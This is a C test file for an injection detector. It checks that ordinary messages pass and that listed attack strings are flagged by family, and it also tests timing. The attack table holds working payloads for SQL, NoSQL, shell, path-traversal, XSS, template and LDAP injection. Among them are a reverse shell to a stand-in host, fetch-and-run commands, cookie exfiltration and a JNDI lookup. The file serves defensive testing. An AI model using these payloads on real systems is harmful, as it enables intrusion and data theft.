/* SPDX-License-Identifier: Apache-2.0 */
/* injection_signs_test.c: what people write passes, what attackers write does not, and neither
 * costs much. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

#include "base/status.h"
#include "message/injection_table.h"
#include "three_ways.h"

static const struct injection_detector detector = {&injection_signs, NULL, INJECTION_THRESHOLD};

static struct injection_verdict judge(const char *text)
{
    struct guarded g = guarded_copy(text, strlen(text));
    struct injection_verdict verdict = {INJECTION_FAMILIES, 0};

    (void)injection_check(&detector, view_of(g.data, strlen(text)), &verdict);
    guarded_free(&g);
    return verdict;
}

static void ordinary_messages_pass(void **state)
{
    static const char *const rows[] = {
        "",
        "hi",
        "SELECT your seats",
        "O'Brien; thanks",
        "Please select a table from the list and drop it next to the window",
        "I'll drop the table off at 5; delete the old photos from my phone, ok?",
        "The union select committee meets on Monday",
        "Is it \"yes\" or \"no\"?",
        "it's 'this' and 'that' -- whatever you like",
        "rock 'n' roll; drum & bass; R&D; AT&T; Q&A",
        "1 + 1 = 2, and 5 = 5; 50% off!",
        "I scored 10-7 #winning",
        "we need more students; insert coins into the slot",
        "where is everybody? or 1 of you at least",
        "My password is not 'password' -- promise",
        "Update: the train is late; exec summary at noon",
        "You can do SELECT * FROM users WHERE id = 5 there",
        "Use bound parameters: SELECT name FROM users WHERE id = ?",
        "CREATE TABLE users (id INT, name TEXT); -- done",
        "DROP TABLE is not undoable",
        "INSERT INTO log VALUES (1, 'a');",
        "x = a || b && c; y = !x",
        "if (a == 'x' || b == 'y') { return true; }",
        "for (int i = 0; i < n; i++) { sum += a[i]; }",
        "run `ls -la | grep foo` and tell me what you see",
        "cd src; make -j2; make install",
        "the `id` field is a string",
        "curl -fsSL https://example.com/install.sh | sh",
        "cat file.txt | sort | uniq -c",
        "git commit -m \"fix; test & land\" && git push",
        "rm -rf build && meson setup build",
        "#!/bin/sh",
        "echo $HOME $(date)",
        "import x from '../../lib/x'",
        "see ../README.md or ../../docs/",
        "look into /etc/passwd",
        "C:\\Users\\ann\\notes.txt",
        "100%00 sure",
        "Put it in a <script> tag",
        "a < b and b > c; <3",
        "<b>bold</b> and <a href=\"https://example.com/\">link</a>",
        "<img src=\"cat.png\"> shows a cat",
        "call alert('hi') to try it",
        "JavaScript: the good parts",
        "the onclick handler fires twice",
        "the onload event, the onerror event",
        "Hello {{ name }}, your order {{ order.id }} is ready",
        "`${user.name} wrote ${count} lines`",
        "{% for x in list %}{{ x }}{% endfor %}",
        "{\"price\": \"$5\", \"name\": \"x\"}",
        "$5 or $10? $in total",
        "f(x)=(a*b)*(c+d)",
        "(cn) stands for common name; (uid) for user id",
        "(a|b)&(c|d) and !(e)",
        "** (important) ** (*)",
        "https://example.com/a?b=c&d=e#f",
        "mail me: o'neil@example.com",
        "L'\xc3\xa9t\xc3\xa9 d'Anna; c'est \"fini\"",
        ("\xe4\xbd\xa0\xe5\xa5\xbd; \xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 "
         "\xf0\x9f\x98\x80"),
        "sleep well; cat is fine; ping me",
        "sleep(5) blocks the thread",
        "time to sleep; see you",
        "What is __init__ and __class__ in Python?",
        "console.log(document.title)",
        "the price (select items) is lower",
    };

    (void)state;
    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        struct injection_verdict verdict = judge(rows[i]);

        if (verdict.score >= INJECTION_THRESHOLD)
            fail_msg("%s: %s %u", rows[i], injection_family_name(verdict.family), verdict.score);
    }
}

static const struct {
    enum injection_family family;
    const char *text;
} attacks[] = {
    {INJECTION_SQL, "' OR '1'='1"},
    {INJECTION_SQL, "\" or \"a\"=\"a"},
    {INJECTION_SQL, "' or 1=1--"},
    {INJECTION_SQL, "'/**/OR/**/1=1"},
    {INJECTION_SQL, "x'+or+1=1+--+"},
    {INJECTION_SQL, "1 or 1=1; --"},
    {INJECTION_SQL, "admin'--"},
    {INJECTION_SQL, "admin' #"},
    {INJECTION_SQL, "admin'/*"},
    {INJECTION_SQL, "Robert'); DROP TABLE students;--"},
    {INJECTION_SQL, "1; DROP TABLE users"},
    {INJECTION_SQL, "1;DELETE FROM users"},
    {INJECTION_SQL, "1 UNION SELECT 1,2,3"},
    {INJECTION_SQL, "-1' union all select null,null,version()--"},
    {INJECTION_SQL, "UnIoN/**/SeLeCt username, password FROM users"},
    {INJECTION_SQL, "1 union select * from information_schema.tables"},
    {INJECTION_SQL, "'; WAITFOR DELAY '0:0:5'--"},
    {INJECTION_SQL, "1 AND SLEEP(5)"},
    {INJECTION_SQL, "1; SELECT pg_sleep(5)"},
    {INJECTION_SQL, "'||(select password from users)||'"},
    {INJECTION_SQL, "'; EXEC xp_cmdshell('dir')--"},
    {INJECTION_SQL, "1 AND extractvalue(1,concat(0x7e,version()))"},
    {INJECTION_SQL, "1 and (select count(*) from sysobjects) > 0"},
    {INJECTION_SQL, "1' ORDER BY 10--"},
    {INJECTION_SQL, "x' AND 1=1 AND 'a'='a"},
    {INJECTION_NOSQL, "{\"$ne\": null}"},
    {INJECTION_NOSQL, "{'username': {'$gt': ''}}"},
    {INJECTION_NOSQL, "username[$ne]=x&password[$ne]=y"},
    {INJECTION_NOSQL, "{$where: 'sleep(1000)'}"},
    {INJECTION_NOSQL, "' || '1'=='1"},
    {INJECTION_NOSQL, "'; return true; var x='"},
    {INJECTION_NOSQL, "$ne"},
    {INJECTION_SHELL, "; cat /etc/passwd"},
    {INJECTION_SHELL, "x; rm -rf /"},
    {INJECTION_SHELL, "127.0.0.1 && cat /etc/shadow"},
    {INJECTION_SHELL, "a | nc evil.example 4444 -e /bin/sh"},
    {INJECTION_SHELL, "$(whoami)"},
    {INJECTION_SHELL, "$(curl http://evil.example/x)"},
    {INJECTION_SHELL, "; whoami"},
    {INJECTION_SHELL, "x;id;"},
    {INJECTION_SHELL, "| ls -la"},
    {INJECTION_SHELL, ";wget http://evil.example/x.sh"},
    {INJECTION_SHELL, "&& curl http://evil.example/x | bash"},
    {INJECTION_SHELL, "bash -i >& /dev/tcp/10.0.0.1/80 0>&1"},
    {INJECTION_SHELL, "() { :;}; echo x"},
    {INJECTION_SHELL, "cat${IFS}/etc/passwd"},
    {INJECTION_SHELL, "& ping -c 10 127.0.0.1"},
    {INJECTION_SHELL, "x; sleep 10"},
    {INJECTION_SHELL, "& cmd /c dir & cmd.exe"},
    {INJECTION_PATH, "../../../../etc/passwd"},
    {INJECTION_PATH, "..\\..\\..\\windows\\win.ini"},
    {INJECTION_PATH, "%2e%2e%2f%2e%2e%2fetc"},
    {INJECTION_PATH, "..%252f..%252f"},
    {INJECTION_PATH, "..%c0%af..%c0%af"},
    {INJECTION_PATH, "....//....//x"},
    {INJECTION_PATH, "file:///etc/passwd"},
    {INJECTION_PATH, "/etc/passwd%00.png"},
    {INJECTION_PATH, "php://filter/convert.base64-encode/resource=index"},
    {INJECTION_PATH, "/..;/..;/manager"},
    {INJECTION_SCRIPT, "<script>alert(1)</script>"},
    {INJECTION_SCRIPT, "<ScRiPt src=//evil.example/x.js></sCrIpT>"},
    {INJECTION_SCRIPT, "<img src=x onerror=alert(1)>"},
    {INJECTION_SCRIPT, "<svg/onload=alert`1`>"},
    {INJECTION_SCRIPT, "\" onfocus=alert(1) autofocus x=\""},
    {INJECTION_SCRIPT, "<a href=\"javascript:alert(1)\">x</a>"},
    {INJECTION_SCRIPT, "<iframe src=javascript:alert(1)>"},
    {INJECTION_SCRIPT, "<script>fetch('//e.example?'+document.cookie)</script>"},
    {INJECTION_SCRIPT, "<details open ontoggle=confirm(1)>"},
    {INJECTION_SCRIPT, "data:text/html,<script>x</script>"},
    {INJECTION_SCRIPT, "%3Cscript%3Ealert(1)"},
    {INJECTION_TEMPLATE, "{{7*7}}"},
    {INJECTION_TEMPLATE, "${7*7}"},
    {INJECTION_TEMPLATE, "#{ 7 * 7 }"},
    {INJECTION_TEMPLATE, "<%= 7*7 %>"},
    {INJECTION_TEMPLATE, "${jndi:ldap://evil.example/a}"},
    {INJECTION_TEMPLATE, "{{''.__class__.__mro__[1].__subclasses__()}}"},
    {INJECTION_TEMPLATE, "{{ config }}"},
    {INJECTION_TEMPLATE, "{{constructor.constructor('alert(1)')()}}"},
    {INJECTION_TEMPLATE, "${T(java.lang.Runtime).getRuntime().exec('id')}"},
    {INJECTION_TEMPLATE, "<#assign x=\"freemarker.template.utility.Execute\"?new()>"},
    {INJECTION_LDAP, "*)(uid=*))(|(uid=*"},
    {INJECTION_LDAP, "admin)(&)"},
    {INJECTION_LDAP, "*)(objectClass=*"},
    {INJECTION_LDAP, "x)(|(cn=*))"},
};

static void known_attacks_are_told_with_their_family(void **state)
{
    unsigned seen[INJECTION_FAMILIES] = {0};

    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        struct injection_verdict verdict = judge(attacks[i].text);

        seen[attacks[i].family]++;
        if (verdict.score < INJECTION_THRESHOLD || verdict.family != attacks[i].family)
            fail_msg("%s: %s %u", attacks[i].text, injection_family_name(verdict.family),
                     verdict.score);
    }
    for (unsigned family = INJECTION_NONE + 1; family < INJECTION_OTHER; family++)
        assert_true(seen[family] >= 4); /* no sign is of the family "other" */
}

static void an_attack_is_told_in_the_middle_of_other_text(void **state)
{
    char text[300];

    (void)state;
    for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        if (attacks[i].text[0] == '$' && strlen(attacks[i].text) == 3)
            continue; /* an operator is one only as a whole */
        (void)snprintf(text, sizeof(text), "hello there %s and so on", attacks[i].text);
        if (judge(text).score < INJECTION_THRESHOLD)
            fail_msg("passed: %s", text);
    }
}

static void the_table_is_well_formed(void **state)
{
    (void)state;
    for (size_t i = 0; i < injection_table_count; i++) {
        const struct injection_sign *sign = &injection_table[i];
        char first = sign->pattern[0];

        assert_true(sign->weight > 0 && sign->weight <= INJECTION_THRESHOLD);
        assert_true(sign->family > INJECTION_NONE && sign->family < INJECTION_OTHER);
        if (first == ' ' || first == MAYBE[0] || first == NUMBER[0] || first == '\'' ||
            first == '"')
            fail_msg("begins with what is not indexed: %s", sign->pattern);
        for (const char *at = sign->pattern; *at != '\0'; at++) {
            if (*at >= 'A' && *at <= 'Z')
                fail_msg("not in lower case: %s", sign->pattern);
            if (at != sign->pattern && (*at == '\'' || *at == '"'))
                fail_msg("a quote that is not QUOTE: %s", sign->pattern);
        }
        for (size_t k = 0; k < i; k++) {
            if (strcmp(sign->pattern, injection_table[k].pattern) == 0 &&
                sign->family == injection_table[k].family)
                fail_msg("twice: %s", sign->pattern);
        }
    }
}

static double cost_ms(struct view text)
{
    double best = 1e9;

    for (int run = 0; run < 7; run++) {
        struct injection_verdict verdict;
        struct timespec a, b;
        double ms;

        (void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &a);
        (void)injection_check(&detector, text, &verdict);
        (void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &b);
        ms = (double)(b.tv_sec - a.tv_sec) * 1e3 + (double)(b.tv_nsec - a.tv_nsec) * 1e-6;
        best = ms < best ? ms : best;
    }
    return best;
}

static double repeated_ms(const char *piece, size_t bytes)
{
    static char text[65536];

    for (size_t i = 0; i < bytes; i++)
        text[i] = piece[i % strlen(piece)];
    return cost_ms(view_of(text, bytes));
}

static void no_text_costs_more_than_its_length(void **state)
{
    static const char *const pieces[] = {
        "x",          "'",    "' ",     "'      ", "'/*  */",   "'/*",     "/*",
        "or ",        "or 1", "union ", ";  ",     "; drop ",   "{{ ",     "{{ 7 * ",
        "<script ",   "../",  "$",      "+",       "' or ",     "null , ", "select 1 ,",
        "'%20%20%20", "&&&&", "((((",   "on",      "or 1 = 1 ", "1",       "{\"$"};

    (void)state;
    for (size_t i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
        double small = repeated_ms(pieces[i], 8192);
        double large = repeated_ms(pieces[i], 65536);

        if (getenv("INJECTION_COSTS") != NULL)
            print_message("%-12s %.3f ms, 8 times as long %.3f ms\n", pieces[i], small, large);
        /* Eight times the text: linear is 8, quadratic 64. */
        if (large > 0.1 && large > 24 * small)
            fail_msg("%s: %.3f ms became %.3f ms", pieces[i], small, large);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(ordinary_messages_pass),
        cmocka_unit_test(known_attacks_are_told_with_their_family),
        cmocka_unit_test(an_attack_is_told_in_the_middle_of_other_text),
        cmocka_unit_test(the_table_is_well_formed),
        cmocka_unit_test(no_text_costs_more_than_its_length),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
